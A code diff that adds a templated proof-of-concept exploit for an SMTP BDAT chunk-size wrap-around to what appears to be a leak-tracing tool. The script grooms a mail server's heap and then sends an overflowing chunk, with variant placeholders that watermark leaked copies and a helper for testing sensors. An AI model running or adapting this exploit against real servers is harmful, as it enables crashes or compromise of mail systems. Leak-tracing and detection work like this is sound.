@@ -413,3 +413,80 @@ AUTHORED_DOCUMENTS = [
         ("DOCUMENT_VIEWER", DOCUMENT_VIEWER),
     )
 ]
+
+# A proof of concept as an author who expects leaks writes it: variant points in the code itself (variable names,
+# constants with several valid values, filler bytes), so that a copy with its comments stripped and reformatted, or
+# the bytes it sends, name the copy it came from. Used by the demo data and bench/leak_trace.py.
+PROOF_OF_CONCEPT = '''#!/usr/bin/env python3
+# Proof of concept for the BDAT chunk size wrap-around: heap grooming, then the wrapping chunk.
+# Usage: poc.py HOST [PORT]
+import socket
+import struct
+import sys
+import time
+
+{{= TARGET | HOST | SERVER =}} = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
+{{= PORT | SMTP_PORT | TARGET_PORT =}} = int(sys.argv[2]) if len(sys.argv) > 2 else 25
+GROOMING_CHUNKS = {{= 24..55 =}}  # chunks sent first to shape the heap
+CHUNK_SIZE = {{= 0x100..0x11f =}}
+FILLER = b"{{= A..Z =}}" * CHUNK_SIZE
+MARKER = b"\\xde\\xad{{=marker: \\x00..\\x1f =}}\\xbe\\xef"
+SESSION_TAG = {{= 0x1000..0x10ff =}}
+WRAP = {{= 0xfffffff0..0xffffffff =}}
+PAUSE = {{= 0.05 | 0.06 | 0.07 | 0.08 | 0.09 | 0.10 | 0.11 | 0.12 =}}
+
+
+def {{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}):
+    """One SMTP reply line, without its line ending."""
+    data = b""
+    while not data.endswith(b"\\r\\n"):
+        part = {{= connection | sock | conn =}}.recv({{= 512 | 1024 | 2048 | 4096 =}})
+        if not part:
+            break
+        data += part
+    return data.strip()
+
+
+def {{= build_chunk | make_chunk | craft_chunk =}}({{= size | length | count =}}, body):
+    """A BDAT command announcing `size` bytes, followed by the body."""
+    header = b"BDAT " + str({{= size | length | count =}}).encode() + b"\\r\\n"
+    return header + body
+
+
+def {{= groom | shape_heap | prepare_heap =}}({{= connection | sock | conn =}}):
+    # Fill the transport worker's heap with chunks of one size, so that the next allocation lands after them.
+    for _ in range(GROOMING_CHUNKS):
+        {{= connection | sock | conn =}}.sendall({{= build_chunk | make_chunk | craft_chunk =}}(CHUNK_SIZE, FILLER))
+        time.sleep(PAUSE)
+
+
+def {{= wrapping_chunk | overflow_chunk | trigger_chunk =}}():
+    """The chunk whose declared size wraps around once added to the bytes already received."""
+    body = FILLER + MARKER + struct.pack("<IH", WRAP, SESSION_TAG)
+    return {{= build_chunk | make_chunk | craft_chunk =}}(WRAP, body)
+
+
+def main():
+    address = ({{= TARGET | HOST | SERVER =}}, {{= PORT | SMTP_PORT | TARGET_PORT =}})
+    with socket.create_connection(address, timeout={{= 5..20 =}}) as {{= connection | sock | conn =}}:
+        print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))
+        {{= connection | sock | conn =}}.sendall(b"EHLO {{= poc | test | probe | check =}}.example\\r\\n")
+        print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))
+        sender = b"MAIL FROM:<{{= a | b | c | d | e | f | g | h =}}@example.test>\\r\\n"
+        {{= connection | sock | conn =}}.sendall(sender + b"RCPT TO:<postmaster>\\r\\n")
+        {{= groom | shape_heap | prepare_heap =}}({{= connection | sock | conn =}})
+        {{= connection | sock | conn =}}.sendall({{= wrapping_chunk | overflow_chunk | trigger_chunk =}}())
+        print({{= read_reply | receive_reply | get_reply =}}({{= connection | sock | conn =}}))
+
+
+def payload():
+    """The bytes main() sends after the greeting (for testing a sensor without a server)."""
+    envelope = b"EHLO {{= poc | test | probe | check =}}.example\\r\\n"
+    envelope += b"MAIL FROM:<{{= a | b | c | d | e | f | g | h =}}@example.test>\\r\\nRCPT TO:<postmaster>\\r\\n"
+    chunks = [{{= build_chunk | make_chunk | craft_chunk =}}(CHUNK_SIZE, FILLER) for _ in range(GROOMING_CHUNKS)]
+    return envelope + b"".join(chunks) + {{= wrapping_chunk | overflow_chunk | trigger_chunk =}}()
+
+
+if __name__ == "__main__":
+    main()
+'''
